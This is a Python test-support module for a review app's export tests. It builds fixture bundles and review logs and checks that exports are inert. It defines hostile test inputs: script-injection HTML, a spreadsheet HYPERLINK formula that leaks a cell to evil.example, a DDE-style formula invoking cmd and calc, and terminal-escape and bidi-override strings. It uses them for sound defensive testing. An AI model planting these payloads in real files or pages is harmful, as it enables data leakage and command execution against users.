"""Shared pieces of the export tests (tests/test_export_*.py): the bundles, a fixed review
with every kind of status in it, and checks for text that must come out inert.

The review is chosen by position (the first event verified, the second disputed, ...), not by
id, and fresh marks carry the entry's current fingerprint: a corrected story gets the same
kinds of status on the same places, and its golden files are regenerated with one command
(see tests/test_export_golden.py).
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

# `pytest` (unlike `python -m pytest`) does not put the repository on sys.path.
REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from tui.export.exporting import FORMATS  # noqa: E402
from tui.model.content import shipped_bundle_path  # noqa: E402
from tui.model.entities import Bundle, EntryType  # noqa: E402
from tui.model.load import load_bundle  # noqa: E402
from tui.review.changes import Change, Op  # noqa: E402
from tui.review.log import REVIEW_FORMAT  # noqa: E402
from tui.review.marks import Mark, format_time  # noqa: E402
from tui.review.session import ReviewSession  # noqa: E402

FIXTURES = REPO / "tests" / "app_fixtures"
GOLDEN = REPO / "tests" / "golden" / "export"
BUNDLES = {
    "baghouz": shipped_bundle_path(),
    "second": FIXTURES / "second.toml",
    "hostile": FIXTURES / "hostile.toml",
}
EXPORT_FORMATS = tuple(FORMATS)

# What no export may contain, raw: C0 controls but tab, line feed and carriage return (CSV
# line ends), DEL, C1 controls, bidi embeddings, overrides and isolates, lone surrogates.
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

# Text an attacker would put in a bundle, a note or a reviewer's name.
HTML_ATTACK = '<script>alert("x")</script><img src=x onerror=alert(1)> & </style>--><b>'
FORMULA_ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CONTROL_ATTACK = "\x1b[31mred\x1b]8;;http://evil\x07 \x9b2J \u202egnp.exe\u202c \u2066x\u2069 \x85"


class Planned(NamedTuple):
    section: str  # "events", "actors" or "quotes"
    index: int
    mark: Mark | None
    note: str | None
    reviewer: str
    stale: bool = False


# One of each kind of status, on entries picked by position.
PLAN = (
    Planned("events", 0, Mark.VERIFIED, None, "ana"),
    Planned("events", 1, Mark.DISPUTED, "The article says Tuesday, not Monday.", "ben"),
    Planned("events", 2, Mark.NEEDS_FIX, "Summary runs on.\nSplit it in two.", "ana"),
    Planned("events", 3, Mark.VERIFIED, "Checked against the wire.", "ben", stale=True),
    Planned("actors", 0, Mark.VERIFIED, None, "ben"),
    Planned("actors", 1, None, "Spelling of the name?", "ana"),
    Planned("quotes", 0, Mark.DISPUTED, 'Are these the "exact" words? <b>&</b>', "ana"),
    Planned("quotes", -1, Mark.VERIFIED, None, "ben"),
)
HOSTILE_PLAN = (
    Planned("events", 0, Mark.DISPUTED, f"{HTML_ATTACK}\n{FORMULA_ATTACK}", HTML_ATTACK),
    Planned("events", 1, Mark.VERIFIED, CONTROL_ATTACK, f"-{CONTROL_ATTACK}"),
    Planned("actors", 0, Mark.NEEDS_FIX, "@SUM(1+1)*cmd|' /C calc'!A0", "+1 reviewer"),
    Planned("quotes", 0, None, f"+{HTML_ATTACK}", "=cmd"),
)
FIRST_REVIEW = datetime(2019, 2, 13, 9, 0, tzinfo=UTC)
_TYPES = {"events": EntryType.EVENT, "actors": EntryType.ACTOR, "quotes": EntryType.QUOTE}


def copy_bundle(name: str, folder: Path) -> Path:
    """A private copy of bundle NAME in `folder`, so its review is written beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    copy = folder / f"{name}.toml"
    shutil.copyfile(BUNDLES[name], copy)
    return copy


def write_review(bundle_path: Path, *, hostile: bool = False) -> Path:
    """Write the fixed review of the bundle at `bundle_path` beside it, as the review log
    the app keeps (one change a line); return its path."""
    bundle, _warnings = load_bundle(bundle_path)
    changes: list[Change] = []
    for number, planned in enumerate(HOSTILE_PLAN if hostile else PLAN):
        entries = getattr(bundle, planned.section)
        if not -len(entries) <= planned.index < len(entries):
            continue
        entry = entries[planned.index]
        fingerprint = "0" * 16 if planned.stale else entry.fingerprint()
        at = format_time(FIRST_REVIEW + timedelta(minutes=7 * number))
        kind = _TYPES[planned.section]
        if planned.mark is not None:
            changes.append(Change(f"mark{number}", entry.id, kind, Op.MARK, planned.reviewer,
                                  at, fingerprint, planned.mark))
        if planned.note is not None:
            changes.append(Change(f"note{number}", entry.id, kind, Op.NOTE, planned.reviewer,
                                  at, fingerprint, None, f"thread{number}", planned.note))
    # A mark for an entry the story no longer has: exports must leave it out quietly.
    changes.append(Change("gone", "entry-since-removed", EntryType.EVENT, Op.MARK, "ana",
                          format_time(FIRST_REVIEW), "f" * 16, Mark.VERIFIED))
    path = bundle_path.with_name(f"{bundle_path.stem}.review.jsonl")
    header = json.dumps({"format": REVIEW_FORMAT, "story": bundle.story.id}) + "\n"
    path.write_bytes(header.encode("ascii") + b"".join(change.line() for change in changes))
    return path


def reviewed(name: str, folder: Path) -> tuple[Bundle, ReviewSession]:
    """Bundle NAME (a private copy) and its fixed review, opened as the command opens it."""
    path = copy_bundle(name, folder)
    write_review(path, hostile=name == "hostile")
    bundle, _warnings = load_bundle(path)
    return bundle, ReviewSession.for_bundle(bundle, prefer_beside=True, read_only=True)


def golden_name(name: str, fmt: str) -> str:
    return f"{name}{FORMATS[fmt]}"
